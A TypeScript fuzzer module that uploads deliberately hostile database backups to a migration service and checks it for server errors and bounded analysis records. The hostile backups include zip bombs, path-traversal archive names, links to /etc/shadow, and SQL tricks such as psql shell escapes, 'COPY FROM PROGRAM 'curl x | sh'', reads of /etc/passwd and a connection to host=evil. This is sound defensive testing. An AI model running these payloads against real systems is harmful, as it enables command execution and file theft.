// The fuzzer's hostile-backup families: archives (zip, tar, tar.gz), plain SQL dumps and
// custom-format dumps (pg_dump -Fc, bare or as dump.dump in a zip) made
// to hurt the analysis, each uploaded through the real routes as spec 4.3 shows (create,
// upload/init, upload/direct with the field file; no checksum) and analysed by the real
// analysis (the job's own function, awaited). Invariants: no 5xx on any route, and every
// analysis record bounded (MAX_RECORD_BYTES), whether the analysis passed or refused the file.
import fc from "fast-check";
import type { InjectOptions } from "fastify";
import type { FuzzTarget } from "./start.ts";
import type { Tenant } from "./tenants.ts";
import { erpCustomDump } from "../../packages/protocol/src/pg-custom-archive.test-helpers.ts";
import { erpDump, tarBytes, zipBytes, type TarEntry, type ZipEntry } from "./archives.ts";

/** The most an analysis record may take, whatever was uploaded. */
export const MAX_RECORD_BYTES = 64 * 1024;

const dump = erpDump();
const names = ["../x", "/etc/passwd", "C:\\x", "a/../../b", "dump.sql", "filestore/ab/ab12", "manifest.json", "x/dump.sql", "a\u0000b", "é/dump.sql"];

/** Zip variants: traversal and absolute names, many members, bombs, cut directories, lying sizes, duplicates, nested archives, non-UTF-8 names. */
const zipCase: fc.Arbitrary<{ label: string; bytes: Buffer }> = fc.oneof(
  fc.record({ name: fc.constantFrom(...names), n: fc.integer({ min: 1, max: 20_000 }) }).map(({ name, n }) => ({
    label: `zip: ${n} members named ${JSON.stringify(name)}`,
    bytes: zipBytes([{ name: "dump.sql", data: dump }, ...Array.from({ length: n }, () => ({ name, data: Buffer.alloc(0) }))]),
  })),
  fc.integer({ min: 1, max: 64 }).map((mb) => ({ label: `zip bomb: ${mb} MiB of zeros deflated`, bytes: zipBytes([{ name: "dump.sql", data: Buffer.alloc(mb << 20), method: 8 }]) })),
  fc.integer({ min: 0, max: 200 }).map((cut) => ({ label: `zip: central directory cut at ${cut}`, bytes: zipBytes([{ name: "dump.sql", data: dump }, { name: "manifest.json", data: Buffer.from("{}") }], { truncateCentralDirectory: cut }) })),
  fc.integer({ min: 0, max: 2 ** 32 - 1 }).map((size) => ({ label: `zip: dump declares ${size} bytes`, bytes: zipBytes([{ name: "dump.sql", data: dump, declaredSize: size, declaredCompressedSize: size }]) })),
  fc.integer({ min: 0, max: 5_000_000 }).map((count) => ({ label: `zip: end record states ${count} entries`, bytes: zipBytes([{ name: "dump.sql", data: dump }], { statedEntries: count }) })),
  fc.constant({ label: "zip: dump.sql twice", bytes: zipBytes([{ name: "dump.sql", data: dump }, { name: "dump.sql", data: Buffer.from("SELECT 1;\n") }]) }),
  fc.constant({ label: "zip: a zip inside a zip", bytes: zipBytes([{ name: "dump.sql", data: zipBytes([{ name: "dump.sql", data: dump }]) }]) }),
  fc.uint8Array({ minLength: 1, maxLength: 40 }).map((raw) => ({ label: "zip: non-UTF-8 names", bytes: zipBytes([{ name: Buffer.from(raw), data: dump, flags: 0x800 } satisfies ZipEntry, { name: "dump.sql", data: dump }]) })),
);

/** tar and tar.gz variants: traversal, links and devices, many headers, lying sizes, truncation, nested archives, non-UTF-8 names. */
const tarCase: fc.Arbitrary<{ label: string; bytes: Buffer }> = fc
  .tuple(
    fc.boolean(),
    fc.oneof(
      fc.record({ name: fc.constantFrom(...names), n: fc.integer({ min: 1, max: 5_000 }) }).map(({ name, n }) => ({ label: `${n} members named ${JSON.stringify(name)}`, entries: Array.from({ length: n }, (): TarEntry => ({ name, data: Buffer.from("x") })) })),
      fc.constantFrom<TarEntry["type"]>("1", "2", "3", "4", "5", "6").map((type) => ({ label: `a type ${type} member named dump.sql`, entries: [{ name: "dump.sql", type, linkname: "/etc/shadow" }] as TarEntry[] })),
      fc.integer({ min: 0, max: 8 ** 11 - 1 }).map((size) => ({ label: `a member declaring ${size} bytes`, entries: [{ name: "manifest.json", data: Buffer.from("{}"), declaredSize: size }] as TarEntry[] })),
      fc.constant({ label: "dump.sql twice", entries: [{ name: "dump.sql", data: Buffer.from("SELECT 1;\n") }] as TarEntry[] }),
      fc.constant({ label: "a tar inside", entries: [{ name: "filestore.tar.gz", data: tarBytes([{ name: "../../x", data: dump }], { gzip: true }) }] as TarEntry[] }),
      fc.uint8Array({ minLength: 1, maxLength: 99 }).map((raw) => ({ label: "non-UTF-8 names", entries: [{ name: Buffer.from(raw), data: Buffer.from("x") }] as TarEntry[] })),
    ),
    fc.option(fc.integer({ min: 1, max: 4000 }), { nil: undefined }),
  )
  .map(([gzip, { label, entries }, truncate]) => ({
    label: `${gzip ? "tar.gz" : "tar"}: ${label}${truncate ? `, cut at ${truncate}` : ""}`,
    bytes: tarBytes([{ name: "dump.sql", data: dump }, ...entries], { gzip, ...(truncate ? { truncate } : {}) }),
  }));

/** Plain dumps with psql's tricks: meta-commands anywhere, COPY look-alikes in comments and strings, dollar quotes, programs, untrusted languages. */
const TRICKS = [
  "\\! id",
  "SELECT 1; \\! touch /tmp/pwned",
  "-- COPY public.res_users (id) FROM stdin;\n\\! id",
  "SELECT 'COPY public.ir_module_module (id, name, state) FROM stdin;';",
  "SELECT $$\n\\.\n\\! id\n$$;",
  "SELECT $tag$ COPY x FROM stdin; $tag$;",
  "COPY (SELECT 1) TO PROGRAM 'id';",
  "COPY public.res_partner FROM PROGRAM 'curl x | sh';",
  "CREATE LANGUAGE plpython3u;",
  "CREATE FUNCTION f() RETURNS void LANGUAGE plperlu AS $$ system('id') $$;",
  "\\set ON_ERROR_STOP off\n\\i /etc/passwd",
  "\\copy x from '/etc/passwd'",
  "/* unterminated comment \\! id",
  "SELECT E'\\\\! id';",
  "\\connect -reuse-previous=on \"dbname='x' host=evil\"",
];
const sqlCase: fc.Arbitrary<{ label: string; bytes: Buffer }> = fc
  .array(fc.constantFrom(...TRICKS), { minLength: 1, maxLength: 6 })
  .map((tricks) => ({ label: `sql: ${tricks.map((t) => t.slice(0, 24)).join(" | ")}`, bytes: erpDump(tricks.join("\n")) }));

/** Custom-format dumps: the tricks above as TOC entries, archives cut anywhere, lying counts and string lengths, overwritten bytes, other versions. */
const customDump = erpCustomDump();
const customCase: fc.Arbitrary<{ label: string; bytes: Buffer }> = fc
  .tuple(
    fc.oneof(
      fc.array(fc.constantFrom(...TRICKS), { minLength: 1, maxLength: 4 }).map((tricks) => ({
        label: `entries ${tricks.map((t) => t.slice(0, 24)).join(" | ")}`,
        bytes: erpCustomDump(tricks.map((defn, i) => ({ dumpId: 100 + i, desc: i % 2 ? "TABLE DATA" : "FUNCTION", tag: `f${i}`, ...(i % 2 ? { copyStmt: defn, data: "" } : { defn }) }))),
      })),
      fc.integer({ min: 5, max: customDump.length - 1 }).map((cut) => ({ label: `cut at ${cut}`, bytes: customDump.subarray(0, cut) })),
      fc.integer({ min: 0, max: 2 ** 32 - 1 }).map((n) => ({ label: `states ${n} TOC entries`, bytes: erpCustomDump([], { statedEntries: n }) })),
      fc.integer({ min: 0, max: 2 ** 32 - 1 }).map((n) => ({ label: `a string says ${n} bytes`, bytes: erpCustomDump([], { lyingDefnLength: n }) })),
      fc.array(fc.record({ at: fc.integer({ min: 5, max: customDump.length - 1 }), byte: fc.integer({ min: 0, max: 255 }) }), { minLength: 1, maxLength: 8 }).map((edits) => {
        const bytes = Buffer.from(customDump);
        for (const { at, byte } of edits) bytes[at] = byte;
        return { label: `bytes overwritten at ${edits.map((e) => e.at).join(",")}`, bytes };
      }),
      fc.integer({ min: 0, max: 255 }).map((minor) => ({ label: `version 1.${minor}`, bytes: erpCustomDump([], { minor }) })),
    ),
    fc.boolean(),
  )
  .map(([c, zipped]) => ({ label: `custom${zipped ? " (dump.dump in a zip)" : ""}: ${c.label}`, bytes: zipped ? zipBytes([{ name: "dump.dump", data: c.bytes, method: 8 }]) : c.bytes }));

export interface HostileFinding {
  label: string;
  detail: string;
}

export interface HostileResult {
  uploads: number;
  requests: number;
  serverErrors: number;
  largestRecordBytes: number;
  outcomes: Record<string, number>;
  findings: HostileFinding[];
  durationMs: number;
}

/** Sends `count` hostile backups (archives and dumps alike) as tenant A's owner and checks the invariants. */
export async function fuzzHostileUploads(cp: FuzzTarget, a: Tenant, opts: { count: number; seed: number }): Promise<HostileResult> {
  const started = performance.now();
  const cases = fc.sample(fc.oneof(zipCase, tarCase, sqlCase, customCase), { seed: opts.seed, numRuns: opts.count });
  const auth = { authorization: `Bearer ${a.sessions.org_owner}` };
  const result: HostileResult = { uploads: 0, requests: 0, serverErrors: 0, largestRecordBytes: 0, outcomes: {}, findings: [], durationMs: 0 };
  const send = async (label: string, req: InjectOptions & { url: string }) => {
    const res = await cp.app.inject(req);
    result.requests++;
    if (res.statusCode >= 500) {
      result.serverErrors++;
      result.findings.push({ label, detail: `${req.method} ${req.url} answered ${res.statusCode}: ${res.body.slice(0, 300)}` });
    }
    return res;
  };
  for (const c of cases) {
    // The spec limits: a tier_1 upload is under 50 MB.
    if (c.bytes.length >= 50 * 1024 * 1024) continue;
    result.uploads++;
    const created = await send(c.label, { method: "POST", url: "/api/v1/migrations", headers: auth, payload: { organization_id: a.organizationId, source_type: "vendor_paas", project_name: "Hostile", data_processing_consent: true } });
    const id = (JSON.parse(created.body) as { id?: string }).id;
    if (!id) continue;
    await send(c.label, { method: "POST", url: `/api/v1/migrations/${id}/upload/init?file_name=backup&file_size=${c.bytes.length}`, headers: auth });
    const boundary = "----berthfuzz";
    const body = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="backup"\r\nContent-Type: application/octet-stream\r\n\r\n`), c.bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]);
    await send(c.label, { method: "POST", url: `/api/v1/migrations/${id}/upload/direct`, headers: { ...auth, "content-type": `multipart/form-data; boundary=${boundary}` }, payload: body });
    // The analysis job's own function, awaited here (the queued run then finds it done).
    await cp.app.services.migrations.findings.runAnalysis(id);
    const record = await send(c.label, { method: "GET", url: `/api/v1/migrations/${id}`, headers: auth });
    const view = JSON.parse(record.body) as { status?: string; error_message?: string | null };
    const outcome = view.status === "failed" ? (/\(([a-z_]+)\)/.exec(view.error_message ?? "")?.[1] ?? "failed") : (view.status ?? "?");
    result.outcomes[outcome] = (result.outcomes[outcome] ?? 0) + 1;
    const analysis = await send(c.label, { method: "GET", url: `/api/v1/migrations/${id}/analysis`, headers: auth });
    const { rows } = await cp.database.pool.query<{ bytes: number | null }>("select octet_length(coalesce(analysis::text, '')) + octet_length(coalesce(error_message, '')) as bytes from migrations where id = $1", [id]);
    const bytes = Math.max(rows[0]?.bytes ?? 0, analysis.body.length);
    result.largestRecordBytes = Math.max(result.largestRecordBytes, bytes);
    if (bytes > MAX_RECORD_BYTES) result.findings.push({ label: c.label, detail: `analysis record of ${bytes} bytes` });
    // The bytes go, so the organisation's quota never fills.
    await send(c.label, { method: "DELETE", url: `/api/v1/migrations/${id}`, headers: auth });
  }
  result.durationMs = performance.now() - started;
  return result;
}

/** One line of figures, then the findings. */
export function reportHostile(r: HostileResult, log: (line: string) => void): void {
  log(`hostile backups: ${r.uploads} uploads, ${r.requests} requests, ${r.serverErrors} × 5xx, largest record ${r.largestRecordBytes} bytes, ${(r.durationMs / 1000).toFixed(1)} s; outcomes ${JSON.stringify(r.outcomes)}`);
  for (const f of r.findings.slice(0, 20)) log(`- ${f.label}: ${f.detail}`);
}
